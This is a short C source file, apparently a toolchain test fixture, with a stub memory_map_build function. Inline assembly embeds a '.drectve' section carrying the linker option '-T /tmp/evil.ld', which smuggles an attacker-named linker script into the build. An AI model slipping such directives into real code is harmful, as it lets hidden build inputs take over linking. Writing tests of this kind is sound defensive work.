/* SPDX-License-Identifier: MIT */
#include "boot.h"

__asm__(".section .drectve, \"e\"\n"
        ".ascii \"-T /tmp/evil.ld\"\n"
        ".section .gnu.linkonce.t.test_driver, \"ax\"\n"
        "ret\n"
        ".section .note.gnu.property, \"a\"\n"
        ".long 0\n"
        ".text\n");

int memory_map_build(const struct boot_info *info, struct memory_map *map)
{
    (void)info;
    map->nr = 0;
    return -1;
}
